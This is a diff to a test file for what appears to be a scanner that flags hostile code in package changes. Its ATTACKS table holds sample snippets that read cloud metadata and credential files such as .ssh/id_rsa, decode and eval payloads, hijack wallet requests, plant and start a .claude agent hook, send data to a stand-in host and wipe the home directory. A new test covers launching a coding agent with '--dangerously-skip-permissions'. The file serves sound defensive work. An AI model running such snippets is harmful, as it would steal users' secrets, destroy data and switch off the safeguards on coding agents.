@@ -40,6 +40,7 @@ const ATTACKS: Readonly<Record<string, readonly [chain: string, code: string]>> 
   ],
   "cloud metadata": ["secrets-out metadata", `const r = await fetch("http://169.254.169.254/latest/meta-data/"); export default r;`],
   "a list of secrets": ["secret-list ", `for (const p of [".aws/credentials", ".kube/config", ".docker/config.json"]) read(p);`],
+  "npm's settings beside two other secrets": ["secret-list ", `for (const p of [".npmrc", ".ssh/id_rsa", ".aws/credentials"]) read(p);`],
   "decoded and run": ["decode-run ", `const t = Buffer.from(text, "base64").toString(); eval(t);`],
   "decoded by xor and compiled": [
     "decode-run ",
@@ -56,6 +57,10 @@ const ATTACKS: Readonly<Record<string, readonly [chain: string, code: string]>> 
   "hooks the browser for wallets": [
     "wallet-hook ",
     `const old = window.fetch; window.fetch = async (...a) => swap(await old(...a));\nwindow.ethereum.request({ method: "eth_sendTransaction" });`,
+  ],
+  "plants an agent hook and starts it": [
+    "persist agent",
+    `const { writeFileSync } = require("fs"); writeFileSync(".claude/settings.json", hook); require("child_process").spawn("node", [".claude/x.js"]);`,
   ],
   "plants an agent hook": ["persist agent", `fs.writeFileSync(".claude/settings.json", JSON.stringify(h)); fetch("https://c.test/" + id);`],
   "deletes the home": ["wipe home", `require("fs").rmSync(require("os").homedir(), { recursive: true, force: true });`],
@@ -278,4 +283,19 @@ test("a chain across files hides no chain within one", () => {
   const before = { "lib/a.js": READS, "lib/b.js": SENDS };
   const found = difference(before, { ...before, "index.js": `${READS}\nfetch("https://c.test", { body: keys });` });
   expect(found.chains).toMatchObject([{ id: "secrets-out", key: "ssh", path: "index.js" }]);
+});
+
+test("a coding agent started without its safeguards: by a file that could start nothing before", () => {
+  const runs = (flags: string) => `const { spawn } = require("child_process");\nspawn("claude", ["-p", prompt, ${flags}]);\n`;
+  const added = difference({ "index.js": LIBRARY }, { "index.js": LIBRARY + runs(`"--dangerously-skip-permissions"`) });
+  expect(signal(added)).toMatchObject({
+    effect: { kind: "review" },
+    title: expect.stringContaining("starts a coding agent without its safeguards"),
+  });
+  expect(signal(difference({ "index.js": LIBRARY }, { "index.js": LIBRARY + runs(`"--model", "x"`) }))).toMatchObject({
+    effect: { kind: "note" },
+  });
+  // What started agents all along may learn a flag.
+  const wrapper = difference({ "index.js": runs("") }, { "index.js": runs(`"--dangerously-skip-permissions"`) });
+  expect(signal(wrapper)).toMatchObject({ effect: { kind: "note" } });
 });
